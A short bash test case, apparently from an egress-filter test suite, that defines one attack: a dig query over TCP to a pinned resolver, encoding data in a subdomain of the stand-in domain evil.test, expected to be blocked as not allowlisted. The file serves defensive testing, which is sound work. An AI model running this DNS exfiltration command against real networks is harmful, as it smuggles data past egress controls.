# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='DNS over TCP to the pinned resolver' origin='RESEARCH §2.27; bullfrog PR#175 (before 0.8.4)'
reason=not_in_allowlist forms='output forward run'
attack() { client dig +tcp +tries=1 +timeout=10 @198.18.2.53 "$1.evil.test"; }
